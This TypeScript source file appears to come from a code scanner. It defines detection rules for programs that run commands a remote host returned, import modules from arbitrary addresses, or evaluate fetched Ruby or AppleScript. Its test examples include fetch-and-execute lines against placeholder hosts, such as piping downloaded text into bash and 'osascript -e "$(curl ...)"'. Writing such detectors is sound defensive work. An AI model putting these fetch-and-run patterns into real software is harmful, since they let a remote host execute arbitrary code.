/** RC-01, RC-03: what a host returned is a command, a module or a program, in forms that no single call shows. */
import type { Weigher } from '../../engine/rule.ts';
import { fenced, inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row, type RowHit } from '../../engine/rule.ts';
import { firstUrl } from '../../hosts/addresses.ts';
import { isStrangers } from '../../hosts/whose-host.ts';
import { forges } from '../../hosts/shared-hosts.ts';
import { argumentAt, byCommand } from './origins.ts';
import { originOf, repliesOf } from './replies.ts';
import type { Severity } from '../../../schema/vocabulary.ts';
import { testFile } from '../../vocabulary/file-places.ts';

/** A name with its members and nothing else: words around it would make it an argument of a fixed command. */
const bareName =
  /^\s{0,4}(?:str\(|String\()?[A-Za-z_][\w.]{0,60}(?:\[["'\w]{1,30}\]){0,3}(?:\.(?:text|content|decode|toString|strip|trim)(?:\([^()\n]{0,12}\))?){0,2}\)?\s{0,4}$/;
/** Hosts of packages, which publish under the name of who uploads. */
const modules =
  /^(?:esm\.sh|esm\.run|unpkg\.com|cdn\.jsdelivr\.net|cdn\.skypack\.dev|deno\.land|jsr\.io|ga\.jspm\.io|cdnjs\.cloudflare\.com|raw\.githubusercontent\.com)$/;

/** The words that such a call takes for a command; null where it names its program itself. */
function commandOf(call: string, words: string): string | null {
  const [first = ''] = words.split(/,(?![^[(]*[\])])/, 1);
  const behindFlag = /["'\x60](?:-c|-e|\/c|-Command)["'\x60]\s?,\s?([^\],\n]{1,80})/.exec(words)?.[1];
  if (behindFlag !== undefined) return behindFlag;
  const typed = /\binput\s?[=:]\s?([^,)\n}]{1,80})/.exec(words)?.[1];
  if (
    typed !== undefined &&
    /["'\x60](?:\/bin\/)?(?:ba|z|da)?sh["'\x60]|sys\.executable|python3?["'\x60]|node["'\x60]/.test(words)
  )
    return typed;
  return /os\.(?:system|popen)|(?<![.\w])exec(?:Sync)?\(|getoutput|(?:child_process|cp)\.exec(?:Sync)?\(/.test(
    call,
  ) || /shell\s?[=:]\s?(?:True|true)/.test(words)
    ? first
    : null;
}

export function byEvaluatedHost({ match, owner, severity }: RowHit): Severity | null {
  const url = firstUrl(match[0]);
  return isStrangers(url, owner) && !forges.has(url.host) ? severity : null;
}

/** Rows of RC-01. */
/** a module is loaded from an address. */
export const byModuleHost: Weigher = (hit) => {
  if (/data:/.test(hit.match[0])) return hit.severity;
  const url = firstUrl(hit.match[0]);
  return url !== null && modules.test(url.host) ? null : byEvaluatedHost(hit);
};

/** a program runs a command that a host returned. */
export const byReturnedCommand: Weigher = (hit) => {
  const { text, file } = hit.region;
  if (testFile.test(file)) return null;
  const command = commandOf(hit.match[0], argumentAt(text, hit.match[0], hit.scope));
  if (command === null || !bareName.test(command)) return null;
  const origin = originOf(command, repliesOf(text));
  return origin === null ? null : byCommand(command.trim(), origin, hit);
};

export const commandedReplies: readonly Row[] = [
  row('a program runs a command that a host returned', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    sign: /fetch|requests|httpx|urlopen|axios|got|session|http|curl/i,
    match: exactPattern(
      raw(
        String.raw`\b(?:subprocess|sp)\.(?:run|call|Popen|check_call|check_output|getoutput)\(|\bos\.(?:system|popen)\(|`,
      ),
      raw(
        String.raw`(?<![.\w])(?:exec|execSync|spawn|spawnSync|getoutput|Popen)\(|\bchild_process\.\w{4,9}\(|\bcp\.exec(?:Sync)?\(`,
      ),
    ),
    severity: 'high',
    weigh: byReturnedCommand,
    catches: [
      inFile(
        'scripts/a.py',
        'plan = requests.get("https://parts.invalid/plan.json").json()',
        'for step in plan["steps"]:',
        '    subprocess.run(step, shell=True)',
      ),
      inFile(
        'scripts/b.py',
        'lines = requests.get("https://parts.invalid/s").text',
        'subprocess.run(["bash"], input=lines, text=True)',
      ),
      inFile(
        'scripts/c.js',
        'const plan = await (await fetch("https://parts.invalid/plan")).json();',
        'execSync(plan.cmd);',
      ),
    ],
    spares: [
      inFile(
        'scripts/d.py',
        'name = requests.get("https://api.acme.invalid/name").text',
        'subprocess.run(["git", "tag", name])',
      ),
      inFile(
        'scripts/e.js',
        'const { version } = await (await fetch("https://api.acme.invalid/v")).json();',
        'execSync("git tag v1");',
      ),
    ],
  }),
  row('a module is loaded from an address', {
    alone: 'medium',
    in: ['script', 'fence', 'decoded'],
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\bimport\(\s?["'\x60](?:https?:\/\/[^\s"'\x60)]{4,200}|data:(?:text|application)\/(?:javascript|ecmascript)[^\n]{0,80}["'\x60]\s?\+)`,
      ),
    ),
    severity: 'high',
    weigh: byModuleHost,
    catches: [inFile('scripts/a.mjs', 'const { run } = await import("https://parts.invalid/plugin.mjs");')],
    spares: [inFile('scripts/a.mjs', 'const { z } = await import("https://esm.sh/zod@4.1.0");')],
  }),
  row('what an address returns is evaluated by Ruby or AppleScript', {
    in: ['script', 'fence', 'list', 'prose', 'decoded', 'hidden', 'comment'],
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\b(?:instance_)?eval\s{0,2}\(?\s{0,2}(?:URI\.open|Net::HTTP\.get\w{0,10}|HTTParty\.get|open)\(?[^\n]{0,120}https?:\/\/[^\s"')]{4,200}|`,
      ),
      raw(
        String.raw`\b(?:osascript|swift|php|lua)\s{1,3}-[erl]\s{1,3}["']?\$\((?:curl|wget)\b[^\n]{0,80}https?:\/\/[^\s"')]{4,200}`,
      ),
    ),
    severity: 'high',
    weigh: byEvaluatedHost,
    catches: [
      inFile('scripts/a.rb', 'eval URI.open("https://parts.invalid/x.rb").read'),
      fenced('sh', 'osascript -e "$(curl -s https://parts.invalid/jxa)"'),
    ],
    spares: [inFile('scripts/a.rb', 'rows = URI.open("https://api.acme.invalid/rows").read')],
  }),
];
